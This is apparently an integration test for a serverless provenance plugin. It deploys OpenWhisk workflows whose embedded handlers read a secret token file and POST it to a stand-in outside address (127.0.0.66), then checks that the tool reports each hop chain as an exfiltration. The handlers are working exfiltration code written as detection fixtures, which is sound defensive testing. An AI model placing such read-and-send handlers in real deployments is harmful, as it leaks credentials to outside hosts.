// Workflows deployed with the real serverless v3 CLI (serverless-openwhisk + this plugin) to the
// embedded platform, each carrying an exfiltration across its hops: a secret file read in one step
// and sent to an outside address (127.0.0.66) in a later one, found by `provenance report --json`.
//   - a sequence:            chain = [readsecret, send]
//   - a trigger and rule fired by an action:   readfire --fires--> leak_trigger --leak_rule--> send
//   - a trigger and rule fired by an alarm:    schedule cron(* * * * *) --> readfire --> ... --> send
//   - a web action behind an API route:       GET /api/guest/wflow/leak --> webleak --invokes--> send
import * as os from 'node:os';
import * as path from 'node:path';
import openwhisk from 'openwhisk';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { ActivationRecord, Platform } from '../invokers/local/index';
import type { Incident } from '../upg/analyses/types';
import { assertBuilt, makeService, ROOT, sls, stopAllThenRemove } from './plugin-harness';
import { serverlessEnv, startReceiver, startStoreAndPlatform } from './platform-harness';
import { runNode } from './run-node';

process.env.AWS_SDK_JS_NODE_VERSION_SUPPORT_WARNING_DISABLED = 'true';

const SERVICE = 'wflow';
const OUTSIDE = '127.0.0.66';
const action = (fn: string) => `${SERVICE}-dev-${fn}`;

const stops: Array<() => unknown> = [];
const dirs: string[] = [];
const platformLog: string[] = [];
const sinkLog: string[] = [];
const leaked: string[] = [];
let storeDir: string;
let platform: Platform;
let outsidePort: number;
let env: Record<string, string> & { HOME: string };
let serviceDir: string;

const HANDLERS: Record<string, string> = {
  'handlers/readsecret.js': `const fs = require('fs');
const path = require('path');
exports.main = async () => ({ token: fs.readFileSync(path.join(__dirname, '..', 'vault', 'token.json'), 'utf8') });
`,
  'handlers/send.js': `const http = require('http');
exports.main = async (params) => {
  await new Promise((resolve, reject) => {
    const req = http.request({ host: params.host, port: params.port, method: 'POST', path: '/collect' }, (res) => { res.resume(); res.on('end', resolve); });
    req.on('error', reject);
    req.end(String(params.token));
  });
  return { sent: String(params.token).length };
};
`,
  'handlers/readfire.js': `const fs = require('fs');
const path = require('path');
const openwhisk = require('openwhisk');
exports.main = async () => {
  const token = fs.readFileSync(path.join(__dirname, '..', 'vault', 'token.json'), 'utf8');
  const fired = await openwhisk().triggers.invoke({ name: 'leak_trigger', params: { token } });
  return { fired: fired.activationId };
};
`,
  'handlers/webleak.js': `const fs = require('fs');
const path = require('path');
const openwhisk = require('openwhisk');
exports.main = async (params) => {
  const token = fs.readFileSync(path.join(__dirname, '..', 'vault', 'token.json'), 'utf8');
  const sent = await openwhisk().actions.invoke({ name: '${action('send')}', blocking: true, result: true, params: { token } });
  return { statusCode: 200, headers: { 'content-type': 'application/json' }, body: { sent: sent.sent, method: params.__ow_method } };
};
`,
  'vault/token.json': '{"token":"s3cr3t"}\n',
};

function serviceYml(): string {
  return `service: ${SERVICE}
frameworkVersion: "3"
provider:
  name: openwhisk
  runtime: nodejs:20
functions:
  readsecret:
    handler: handlers/readsecret.main
  send:
    handler: handlers/send.main
    parameters:
      host: ${OUTSIDE}
      port: ${outsidePort}
    events:
      - trigger:
          name: leak_trigger
          rule: leak_rule
  chain:
    sequence:
      - readsecret
      - send
  readfire:
    handler: handlers/readfire.main
    events:
      - schedule: cron(* * * * *)
  webleak:
    handler: handlers/webleak.main
    events:
      - http:
          method: GET
          path: /leak
          resp: http
resources:
  apigw:
    basepath: /${SERVICE}
plugins:
  - serverless-openwhisk
  - serverless-provenance
custom:
  provenance:
    sensitive:
      secrets: [token.json]
`;
}

beforeAll(async () => {
  assertBuilt();
  outsidePort = await startReceiver({ stops }, OUTSIDE, leaked);
  ({ storeDir, platform } = await startStoreAndPlatform({ stops, dirs }, { prefix: 'workflow-deploy', correlator: 'local-sink', platformLog, sinkLog, announce: true }));
  env = serverlessEnv({ dirs }, platform, { OW_NAMESPACE: platform.namespace, PROVENANCE_STORE: storeDir });
  serviceDir = makeService({ 'serverless.yml': serviceYml(), ...HANDLERS });
  dirs.push(serviceDir);
}, 120_000);

afterAll(() => stopAllThenRemove(stops, dirs));

/** POST or GET with our own X-Request-ID, so the request is known by name in the report. */
async function call(url: string, requestId: string, init: RequestInit = {}): Promise<Response> {
  const headers = { authorization: `Basic ${Buffer.from(platform.auth).toString('base64')}`, 'content-type': 'application/json', 'x-request-id': requestId, ...(init.headers ?? {}) };
  return fetch(`${platform.apihost}${url}`, { ...init, headers });
}

async function report(): Promise<Incident[]> {
  await platform.flush();
  const run = await runNode([path.join(ROOT, 'bin', 'provenance.js'), 'report', '--json', '--all', '--store', storeDir], { cwd: os.tmpdir(), timeoutMs: 60_000 });
  expect(run.code, run.stderr).toBe(0);
  return (JSON.parse(run.stdout) as { incidents: Incident[] }).incidents;
}

interface Trace {
  nodes: Array<Record<string, unknown> & { id: string; kind: string }>;
  edges: Array<{ from: string; to: string; kind: string; op?: string }>;
}

async function trace(requestId: string): Promise<Trace> {
  const run = await runNode([path.join(ROOT, 'bin', 'provenance.js'), 'trace', requestId, '--json', '--store', storeDir], { cwd: os.tmpdir(), timeoutMs: 60_000 });
  expect(run.code, run.stderr).toBe(0);
  return JSON.parse(run.stdout) as Trace;
}

const exfiltrationIn = (incidents: Incident[], requestId: string) =>
  incidents.filter((i) => i.kind === 'exfiltration' && i.requests.includes(requestId) && i.sink?.address === OUTSIDE);

describe('workflows deployed with the serverless CLI, exfiltration across their hops', () => {
  let deployedAt = 0;

  it('deploys sequences, triggers, rules, schedules and HTTP routes', async () => {
    const result = await sls(serviceDir, ['deploy'], env, 180_000);
    expect(result.code, result.output).toBe(0);
    deployedAt = Date.now();
    expect(result.output).not.toMatch(/not supported|Failed to deploy/);
    const ow = openwhisk({ apihost: platform.apihost, api_key: platform.auth });
    const triggers = (await ow.triggers.list()).map((t) => t.name).sort();
    expect(triggers).toEqual(['leak_trigger', `${SERVICE}_readfire_schedule_trigger`]);
    const rules = (await ow.rules.list()) as unknown as Array<{ name: string; status: string }>;
    expect(rules.map((r) => [r.name, r.status]).sort()).toEqual([['leak_rule', 'active'], [`${SERVICE}_readfire_schedule_rule`, 'active']]);
    const chain = (await ow.actions.get({ name: action('chain') })) as unknown as { exec: { kind: string; components: string[] } };
    expect(chain.exec).toEqual({ kind: 'sequence', components: [`/guest/${action('readsecret')}`, `/guest/${action('send')}`] });
  }, 200_000);

  it('a sequence: the secret read by its first component and sent by its second is an exfiltration of one request', async () => {
    const res = await call(`/api/v1/namespaces/_/actions/${action('chain')}?blocking=true`, 'req-wf-sequence', { method: 'POST', body: '{}' });
    const record = (await res.json()) as ActivationRecord;
    expect(res.status, JSON.stringify(record)).toBe(200);
    expect(record.response.result).toEqual({ sent: 19 });
    const found = exfiltrationIn(await report(), 'req-wf-sequence');
    expect(found, sinkLog.join('\n')).toHaveLength(1);
    expect(found[0]).toMatchObject({
      verdict: 'attack',
      artifact: { kind: 'file', path: expect.stringMatching(/\/vault\/token\.json$/) },
      planter: { action: `/guest/${action('readsecret')}` },
      victims: [{ action: `/guest/${action('send')}` }],
      sink: { address: OUTSIDE, port: outsidePort },
    });
    // the sequence's own activation is in the graph, its first component started from it
    const graph = await trace('req-wf-sequence');
    const seqNode = graph.nodes.find((n) => n.kind === 'activation' && n.platform === 'sequence');
    expect(seqNode).toMatchObject({ activationId: record.activationId, action: `/guest/${action('chain')}` });
    const components = graph.nodes.filter((n) => n.kind === 'activation' && !n.platform).map((n) => [n.action, n.parent]);
    expect(components).toEqual(expect.arrayContaining([[`/guest/${action('readsecret')}`, record.activationId], [`/guest/${action('send')}`, record.logs[0]]]));
  }, 120_000);

  it('a trigger fired by an action: the rule\'s action sends what the firing action read, in the same request', async () => {
    const res = await call(`/api/v1/namespaces/_/actions/${action('readfire')}?blocking=true&result=true`, 'req-wf-trigger', { method: 'POST', body: '{}' });
    expect(res.status).toBe(200);
    const { fired } = (await res.json()) as { fired: string };
    const ow = openwhisk({ apihost: platform.apihost, api_key: platform.auth });
    const trigger = (await ow.activations.get({ name: fired })) as unknown as ActivationRecord;
    const ruleRun = JSON.parse(trigger.logs[0]) as { activationId: string; rule: string };
    expect(ruleRun.rule).toBe('guest/leak_rule');
    await platform.flush();
    const sent = (await ow.activations.get({ name: ruleRun.activationId })) as unknown as ActivationRecord;
    expect(sent).toMatchObject({ name: action('send'), cause: fired, response: { result: { sent: 19 } } });
    const found = exfiltrationIn(await report(), 'req-wf-trigger');
    expect(found, sinkLog.join('\n')).toHaveLength(1);
    expect(found[0]).toMatchObject({ planter: { action: `/guest/${action('readfire')}` }, victims: [{ action: `/guest/${action('send')}` }], sink: { address: OUTSIDE } });
    // the trigger activation is the hop between them
    const graph = await trace('req-wf-trigger');
    expect(graph.nodes.find((n) => n.kind === 'activation' && n.platform === 'trigger')).toMatchObject({ activationId: fired, action: '/guest/leak_trigger' });
    expect(found[0].path).toContain(`act:${fired}`);
  }, 120_000);

  it('a web action behind its API route: the HTTP request is the entry, X-Request-ID its id; the secret goes out through a nested invocation', async () => {
    const ow = openwhisk({ apihost: platform.apihost, api_key: platform.auth });
    const routes = (await ow.routes.list()) as unknown as { apis: Array<{ value: { gwApiUrl: string } }> };
    expect(routes.apis).toHaveLength(1);
    const res = await fetch(`${routes.apis[0].value.gwApiUrl}/leak`, { headers: { 'x-request-id': 'req-wf-web', cookie: 'session=abc', authorization: 'Bearer xyz' } });
    expect(res.status).toBe(200);
    expect(await res.json()).toEqual({ sent: 19, method: 'get' });
    const found = exfiltrationIn(await report(), 'req-wf-web');
    expect(found, sinkLog.join('\n')).toHaveLength(1);
    expect(found[0]).toMatchObject({ planter: { action: `/guest/${action('webleak')}` }, victims: [{ action: `/guest/${action('send')}` }] });
    // the request's entry is the HTTP client, with its method and path, credentials redacted
    const client = (await trace('req-wf-web')).nodes.find((n) => n.kind === 'client');
    expect(client).toMatchObject({ method: 'GET', path: '/wflow/leak', headers: expect.objectContaining({ cookie: '[redacted]', authorization: '[redacted]', 'x-require-whisk-auth': '[redacted]' }) });
    // without the secret the gateway adds, the web action itself refuses the call
    expect((await fetch(`${platform.apihost}/api/v1/web/guest/default/${action('webleak')}.http`)).status).toBe(401);
  }, 120_000);

  it('an alarm: the schedule fires the trigger on its own (at the next minute), and the exfiltration it starts is found', async () => {
    const waitUntil = Math.max(deployedAt, Date.now()) + 75_000;
    let found: Incident[] = [];
    while (Date.now() < waitUntil && found.length === 0) {
      await new Promise((r) => setTimeout(r, 5_000));
      const incidents = await report();
      found = incidents.filter((i) => i.kind === 'exfiltration' && i.planter.action === `/guest/${action('readfire')}` && !i.requests.includes('req-wf-trigger'));
    }
    expect(found.length, sinkLog.join('\n')).toBeGreaterThanOrEqual(1);
    expect(found[0]).toMatchObject({ victims: [{ action: `/guest/${action('send')}` }], sink: { address: OUTSIDE } });
    const result = await sls(serviceDir, ['remove'], env, 120_000);
    expect(result.code, result.output).toBe(0);
    const ow = openwhisk({ apihost: platform.apihost, api_key: platform.auth });
    expect(await ow.triggers.list()).toEqual([]);
    expect(await ow.rules.list()).toEqual([]);
  }, 200_000);
});
